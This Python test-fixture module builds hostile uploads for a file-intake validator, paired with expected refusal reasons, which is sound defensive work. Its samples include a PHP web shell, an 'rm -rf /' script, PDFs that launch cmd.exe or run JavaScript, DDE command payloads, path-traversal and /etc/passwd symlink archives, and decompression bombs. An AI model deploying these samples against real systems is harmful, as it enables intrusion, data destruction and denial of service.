"""Files to be refused, each made here: none of them lies in the repository.

`HOSTILE` is a table: the name somebody gives the file, how it is made, why it may not come in.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image

from core.files.intake import MOST
from core.files.refusals import Why

Made = Callable[[], bytes]
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
ODT = "application/vnd.oasis.opendocument.text"
NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/{part}" ContentType="{main}"/></Types>'
)
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PROGRAM = b"MZ\x90\x00" + b"\0" * 200
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
BOMB = 130 * 1024 * 1024


# --- the good ones, from which the others are made ----------------------------------------------


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda made: None, **how: object) -> bytes:
    """A PDF of one page; `change` does to it what a good one does not have."""
    made = pikepdf.new()
    made.add_blank_page()
    change(made)
    written = io.BytesIO()
    made.save(written, **how)
    return written.getvalue()


def picture(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **how: object) -> bytes:
    """A small picture in one colour."""
    drawn = io.BytesIO()
    Image.new(mode, size, 120).save(drawn, kind, **how)
    return drawn.getvalue()


def archive(parts: dict[str, bytes | str], comment: bytes = b"") -> bytes:
    """An archive of these parts, in their order."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
        made.comment = comment
    return packed.getvalue()


def docx(more: dict[str, bytes | str] | None = None, *, main: str = WORD, body: str = "") -> bytes:
    """A text of Word."""
    text = f"<w:document {NS}><w:body><w:p><w:r><w:t>Ciao</w:t></w:r></w:p>{body}</w:body></w:document>"
    parts = {
        "[Content_Types].xml": TYPES.format(part="word/document.xml", main=main),
        "word/document.xml": text,
    }
    return archive(parts | (more or {}))


def xlsx(more: dict[str, bytes | str] | None = None, *, formula: str = "A1+1") -> bytes:
    """A sheet of Excel."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = f'<worksheet xmlns="{main}"><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>'
    parts = {
        "[Content_Types].xml": TYPES.format(part="xl/workbook.xml", main=SHEET),
        "xl/workbook.xml": f'<workbook xmlns="{main}"/>',
        "xl/worksheets/sheet1.xml": cells,
    }
    return archive(parts | (more or {}))


def odt(more: dict[str, bytes | str] | None = None, *, body: str = "", manifest: str = "") -> bytes:
    """A text of LibreOffice; the type stands first."""
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    parts: dict[str, bytes | str] = {
        "mimetype": ODT,
        "content.xml": f"<office:document-content {spaces}><office:scripts/>{body}</office:document-content>",
        "META-INF/manifest.xml": f"<manifest>{manifest}</manifest>",
    }
    return archive(parts | (more or {}))


def rels(kind: str, target: str) -> dict[str, bytes | str]:
    """A part of a text of Word that names something outside of it."""
    line = f'<Relationship Id="r1" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="x">{line}</Relationships>'}


# --- what is wrong with the others --------------------------------------------------------------


def _acting(action: str, **more: object) -> Made:
    def act(made: pikepdf.Pdf) -> None:
        told = {"/S": pikepdf.Name(action)} | {f"/{name}": value for name, value in more.items()}
        made.Root.OpenAction = pikepdf.Dictionary(told)

    return lambda: pdf(act)


def _hidden(made: pikepdf.Pdf) -> None:
    # As far from the root as a page's own annotation, in an object of a compressed stream.
    action = pikepdf.Dictionary({"/S": pikepdf.Name("/JavaScript"), "/JS": "app.alert(1)"})
    note = made.make_indirect(
        pikepdf.Dictionary({"/Subtype": pikepdf.Name("/Link"), "/A": made.make_indirect(action)})
    )
    made.pages[0].Annots = pikepdf.Array([note])


def _enclosing(made: pikepdf.Pdf) -> None:
    made.attachments["x.exe"] = PROGRAM


def _form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary({"/XFA": pikepdf.Stream(made, b"<xdp/>")})


def _movie(made: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary({"/Subtype": pikepdf.Name("/RichMedia")})
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def _on_opening_page(made: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary({"/S": pikepdf.Name("/JavaScript"), "/JS": "app.alert(1)"})
    made.pages[0].AA = pikepdf.Dictionary({"/O": act})


def _locked(user: str) -> Made:
    return lambda: pdf(encryption=pikepdf.Encryption(owner="segreta", user=user))


def _without_pages() -> bytes:
    made, written = pikepdf.new(), io.BytesIO()
    made.save(written)
    return written.getvalue()


def _huge_png() -> bytes:
    """A few bytes that say they are 3,600 million pixels."""

    def block(name: bytes, content: bytes) -> bytes:
        return struct.pack("!L", len(content)) + name + content + struct.pack(
            "!L", zlib.crc32(name + content)
        )  # fmt: skip

    head = block(b"IHDR", struct.pack("!LLBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + block(b"IDAT", zlib.compress(b"\0" * 1000))
        + block(b"IEND", b"")
    )


def _linked() -> bytes:
    packed = io.BytesIO(docx())
    with zipfile.ZipFile(packed, "a") as made:
        link = zipfile.ZipInfo("word/media/picture.png")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return packed.getvalue()


def _twice() -> bytes:
    packed = io.BytesIO(docx())
    with zipfile.ZipFile(packed, "a") as made:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            made.writestr("word/document.xml", "<other/>")
    return packed.getvalue()


def _flagged() -> bytes:
    """A text of Word whose parts say they are encrypted."""
    made = bytearray(docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = made.find(sign)
        while start >= 0:
            made[start + place] |= 1
            start = made.find(sign, start + 4)
    return bytes(made)


def _lying() -> bytes:
    """A part that says it is small, and is not."""
    made = bytearray(docx({"word/media/a.bin": b"0" * BOMB}))
    real = struct.pack("<L", BOMB)
    return bytes(made.replace(real, struct.pack("<L", 1000)))


def _entities() -> bytes:
    text = '<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><d>&b;</d>'
    return docx({"word/styles.xml": text})


# --- what may come in, and is hard to draw ------------------------------------------------------


def _form_of(made: pikepdf.Pdf, content: bytes, inner: object = None) -> pikepdf.Object:
    form = made.make_indirect(pikepdf.Stream(made, content))
    form.Type, form.Subtype = pikepdf.Name("/XObject"), pikepdf.Name("/Form")
    form.BBox = pikepdf.Array([0, 0, 200, 200])
    _use(form, form if inner is None else inner)
    return form


def _use(holder: object, form: object) -> None:
    holder.Resources = pikepdf.Dictionary({"/XObject": pikepdf.Dictionary({"/X": form})})


def _show(made: pikepdf.Pdf, form: object) -> None:
    _use(made.pages[0].obj, form)
    made.pages[0].obj.Contents = made.make_stream(b"/X Do")


def _a_billion_times(made: pikepdf.Pdf) -> None:
    """A drawing of ten drawings of ten drawings…"""
    form = _form_of(made, b"0 0 100 100 re f")
    for _depth in range(12):
        form = _form_of(made, b"/X Do " * 10, form)
    _show(made, form)


def _in_itself(made: pikepdf.Pdf) -> None:
    _show(made, _form_of(made, b"/X Do"))


def _nonsense(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Contents = made.make_stream(b"\xff q q ( << BT /F9 9e99 Tf ET" * 2000)


def _of_size(*box: float) -> Made:
    def cut(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.MediaBox = pikepdf.Array([0, 0, *box])

    return lambda: pdf(cut)


# Each passes the look at the door; how many of its pages can be drawn.
HARD_TO_DRAW: list[tuple[str, Made, int]] = [
    ("un.miliardo.di.volte.pdf", lambda: pdf(_a_billion_times), 0),
    ("in.se.stesso.pdf", lambda: pdf(_in_itself), 1),
    ("senza.senso.pdf", lambda: pdf(_nonsense), 1),
    ("enorme.pdf", _of_size(1_000_000, 1_000_000), 1),
    ("un.filo.pdf", _of_size(1_000_000, 0.5), 0),
    ("un.punto.pdf", _of_size(0.01, 0.01), 0),
]


HTML = b"<html><script>alert(1)</script></html>"
HOSTILE: list[tuple[str, Made, Why]] = [
    # Not what it says it is.
    ("niente.pdf", lambda: b"", Why.EMPTY),
    ("grande.pdf", lambda: b"%PDF-1.7\n" + b"0" * MOST, Why.TOO_LARGE),
    ("programma.pdf", lambda: PROGRAM, Why.UNKNOWN),
    ("programma.linux.pdf", lambda: b"\x7fELF" + b"\0" * 200, Why.UNKNOWN),
    ("pagina.jpg", lambda: HTML, Why.UNKNOWN),
    ("disegno.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', Why.UNKNOWN),
    ("guscio.php", lambda: b"<?php system($_GET['c']);", Why.UNKNOWN),
    ("guscio.sh", lambda: b"#!/bin/sh\nrm -rf /\n", Why.UNKNOWN),
    ("testo.txt", lambda: b"Ciao", Why.UNKNOWN),
    ("testo.rtf", lambda: b"{\\rtf1 ciao}", Why.UNKNOWN),
    ("vecchio.doc", lambda: OLD_OFFICE, Why.UNKNOWN),
    ("protetto.docx", lambda: OLD_OFFICE, Why.UNKNOWN),
    ("moto.gif", lambda: picture("GIF", mode="L"), Why.UNKNOWN),
    ("foto.webp", lambda: picture("WEBP"), Why.UNKNOWN),
    ("foto.tiff", lambda: picture("TIFF"), Why.UNKNOWN),
    ("foto.bmp", lambda: picture("BMP"), Why.UNKNOWN),
    ("video.mp4", lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 200, Why.UNKNOWN),
    ("archivio.7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 200, Why.UNKNOWN),
    ("archivio.zip", lambda: archive({"a.txt": "ciao"}), Why.UNKNOWN),
    ("libro.epub", lambda: archive({"mimetype": "application/epub+zip"}), Why.UNKNOWN),
    ("diapositive.pptx", lambda: docx(main=WORD.replace("wordprocessingml.document", "presentationml.presentation")), Why.UNKNOWN),
    ("modello.dotx", lambda: docx(main=WORD.replace("document.main", "template.main")), Why.UNKNOWN),
    ("programma.jar", lambda: archive({"META-INF/MANIFEST.MF": "x"}), Why.UNKNOWN),
    ("spostato.pdf", lambda: b"\n" * 40 + pdf(), Why.UNKNOWN),
    # PDF.
    ("script.pdf", _acting("/JavaScript", JS="app.alert(1)"), Why.ACTIVE),
    ("script.nascosto.pdf", lambda: pdf(_hidden, object_stream_mode=pikepdf.ObjectStreamMode.generate), Why.ACTIVE),
    ("script.pagina.pdf", lambda: pdf(_on_opening_page), Why.ACTIVE),
    ("avvia.pdf", _acting("/Launch", F="cmd.exe"), Why.ACTIVE),
    ("invia.pdf", _acting("/SubmitForm", F="http://example.org"), Why.ACTIVE),
    ("altrove.pdf", _acting("/GoToR", F="//server/x.pdf"), Why.ACTIVE),
    ("modulo.xfa.pdf", lambda: pdf(_form), Why.ACTIVE),
    ("allegato.pdf", lambda: pdf(_enclosing), Why.ENCLOSES),
    ("filmato.pdf", lambda: pdf(_movie), Why.ENCLOSES),
    ("chiuso.pdf", _locked("segreta"), Why.ENCRYPTED),
    ("chiuso.a.meta.pdf", _locked(""), Why.ENCRYPTED),
    ("tronco.pdf", lambda: pdf()[:300], Why.DAMAGED),
    ("finto.pdf", lambda: b"%PDF-1.7\n%%EOF", Why.DAMAGED),
    ("senza.pagine.pdf", _without_pages, Why.DAMAGED),
    ("due.cose.pdf", lambda: pdf() + archive({"a.js": "x"}), Why.TWO_THINGS),
    ("pagina.in.coda.pdf", lambda: pdf() + HTML, Why.TWO_THINGS),
    # Pictures.
    ("bomba.png", _huge_png, Why.TOO_COMPLEX),
    ("tronca.png", lambda: picture("PNG", (300, 300))[:-80], Why.DAMAGED),
    ("tronca.jpg", lambda: picture("JPEG", (300, 300))[:-200], Why.DAMAGED),
    ("finta.png", lambda: b"\x89PNG\r\n\x1a\n" + HTML, Why.DAMAGED),
    # Texts and sheets.
    ("macro.docm", lambda: docx(main=MACRO), Why.MACROS),
    ("macro.docx", lambda: docx({"word/vbaProject.bin": "x"}), Why.MACROS),
    ("macro.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), Why.MACROS),
    ("controlli.docx", lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), Why.MACROS),
    ("macro.odt", lambda: odt({"Basic/Standard/Module1.xml": "<a/>"}), Why.MACROS),
    ("evento.odt", lambda: odt(body='<script:event-listener script:language="x"/>'), Why.MACROS),
    ("oggetto.docx", lambda: docx({"word/embeddings/oleObject1.bin": OLD_OFFICE}), Why.ENCLOSES),
    ("programma.docx", lambda: docx({"word/media/image1.png": PROGRAM}), Why.ENCLOSES),
    ("archivio.docx", lambda: docx({"word/media/image1.png": archive({"a": "b"})}), Why.ENCLOSES),
    ("archivio.odt", lambda: odt({"Pictures/a.zip": "x"}), Why.ENCLOSES),
    ("modello.remoto.docx", lambda: docx(rels("attachedTemplate", "http://example.org/a.dotm")), Why.LINKS),
    ("figura.remota.docx", lambda: docx(rels("image", "http://example.org/a.png")), Why.LINKS),
    ("legame.docx", lambda: docx(rels("hyperlink", "file://server/a.exe")), Why.LINKS),
    ("dde.docx", lambda: docx(body="<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r></w:p>"), Why.LINKS),
    ("dde.xlsx", lambda: xlsx(formula="cmd|'/c calc'!A0"), Why.LINKS),
    ("rete.xlsx", lambda: xlsx(formula='WEBSERVICE("http://example.org")'), Why.LINKS),
    ("fuori.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}), Why.LINKS),
    ("dati.xlsx", lambda: xlsx({"xl/connections.xml": "<a/>"}), Why.LINKS),
    ("fuori.odt", lambda: odt(body='<text:section-source xlink:href="http://example.org/a.odt"/>'), Why.LINKS),
    ("dde.odt", lambda: odt(body="<text:dde-connection-decl/>"), Why.LINKS),
    ("entita.docx", _entities, Why.ACTIVE),
    ("bomba.docx", lambda: docx({"word/media/a.bin": b"0" * BOMB}), Why.TOO_COMPLEX),
    ("bomba.bugiarda.docx", _lying, Why.DAMAGED),
    ("mille.parti.docx", lambda: docx({f"word/media/{n}.txt": "" for n in range(3100)}), Why.TOO_COMPLEX),
    ("cifrato.docx", _flagged, Why.ENCRYPTED),
    ("cifrato.odt", lambda: odt(manifest="<encryption-data/>"), Why.ENCRYPTED),
    ("fuga.docx", lambda: docx({"../../etc/cron.d/x": "x"}), Why.TWO_THINGS),
    ("radice.docx", lambda: docx({"/etc/passwd": "x"}), Why.TWO_THINGS),
    ("collegamento.docx", _linked, Why.TWO_THINGS),
    ("doppio.docx", _twice, Why.TWO_THINGS),
    ("coda.docx", lambda: docx() + HTML, Why.TWO_THINGS),
    ("testa.docx", lambda: PROGRAM + docx(), Why.UNKNOWN),
    ("tronco.docx", lambda: docx()[:-40], Why.DAMAGED),
    ("rotto.docx", lambda: docx({"word/styles.xml": "<a><b></a>"}), Why.DAMAGED),
]  # fmt: skip
